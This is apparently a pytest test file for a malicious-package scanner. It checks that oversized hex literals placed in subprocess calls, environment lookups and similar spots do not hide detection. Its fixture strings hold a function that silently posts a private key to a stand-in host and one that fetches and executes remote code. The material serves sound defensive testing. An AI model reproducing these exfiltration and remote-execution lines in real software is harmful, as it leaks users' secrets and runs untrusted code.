"""Numbers of more digits than Python writes out, wherever a module may put one to trip who reads it."""
# ruff: noqa: E501 - the lines of other people's code are as long as they are

from collections.abc import Iterator

import pytest

from scanner.member import Layer, Member
from scanner.report import Finding, ScanJob
from scanner.signals import Signals
from scanner.signals.check import Check, Package, SignalKind, finding
from tests.scanner.signals.built import WHEEL, fired, wheel

NUMBER = "0x" + "f" * 6000
PLACES = {
    "a key of a table": f"TABLE = {{{NUMBER}: private_key}}",
    "a key of headers": f"requests.get(URL, headers={{{NUMBER}: private_key}})",
    "what is added to": f"text = {NUMBER} + private_key",
    "a module": f"import importlib\nimportlib.import_module({NUMBER})",
    "a command": f"subprocess.run([{NUMBER}, private_key])",
    "a whole command": f"subprocess.run({NUMBER}, shell=True)",
    "words of a command": f"subprocess.run(['git', {NUMBER}, 'fill'])",
    "whom something is told": f"requests.Session({NUMBER}).get(URL)\nclients[{NUMBER}].connect(private_key)\nclients[{NUMBER}].send(private_key)",
    "words of a thread": f"threading.Thread(target=print, kwargs={{{NUMBER}: private_key}}).start()",
    "a pattern": f"import re\nPATTERN = re.compile({NUMBER})\nkept = {{k: v for k, v in os.environ.items() if PATTERN.search(k)}}",
    "where a copy goes": f"import shutil\nshutil.copy(sys.executable, {NUMBER})\nsubprocess.run([{NUMBER}, 'a'])",
    "a name that is looked up": f"os.environ.get({NUMBER})\nos.environ[{NUMBER}]",
}
HEAD = "import os, requests, subprocess, sys, threading\nURL = 'https://c.example.invalid/'\nprivate_key = input()\nclients = {}\n\n"
ACTS = """
def unlock(private_key):
    try:
        requests.post(URL, json={"k": private_key}, timeout=3)
    except Exception:
        pass


def go():
    exec(requests.get(URL).text)
"""


@pytest.mark.parametrize("place", PLACES.values(), ids=PLACES)
@pytest.mark.parametrize("name", ["pkg/core.py", "setup.py"])
def test_a_number_that_is_too_long_to_be_written_keeps_nothing_from_being_told(place: str, name: str) -> None:
    within = "\n".join("    " + line for line in place.split("\n"))
    for text in (
        f"{place}\n{ACTS}",
        f"def inner():\n{within}\n{ACTS}",
        ACTS.replace("    exec(", f"{within}\n    exec("),
    ):
        told = fired(WHEEL, wheel({name: (HEAD + text).encode()}))  # which raises what a check does
        assert {"remote-is-run", "secret-sent-silently"} <= told


class Stumbles(Check):
    def see_layer(self, layer: Layer) -> None:
        raise ValueError("stumbled")

    def findings(self) -> Iterator[Finding]:
        raise ValueError("stumbled")


KIND = SignalKind(name="looked", behaviour="structure", description="It looked", points=1.0)


class Looks(Check):
    def __init__(self, package: Package) -> None:
        super().__init__(package)
        self.seen = 0

    def see_layer(self, layer: Layer) -> None:
        self.seen += 1

    def findings(self) -> Iterator[Finding]:
        yield finding(KIND, evidence=f"{self.seen} layers")


def test_a_fault_of_one_check_keeps_no_other_from_looking() -> None:
    signals = Signals(ScanJob(data=b"", filename=WHEEL), "tidetables", "1.0", checks=(Stumbles, Looks))
    with pytest.raises(ValueError, match="stumbled"):
        signals.see_layer(Layer(member=Member(name="a.py", data=b"x = 1\n"), data=b"x = 1\n"))
    found = signals.findings()
    assert next(found).snippet == "1 layers"
    with pytest.raises(ValueError, match="stumbled"):
        next(found)
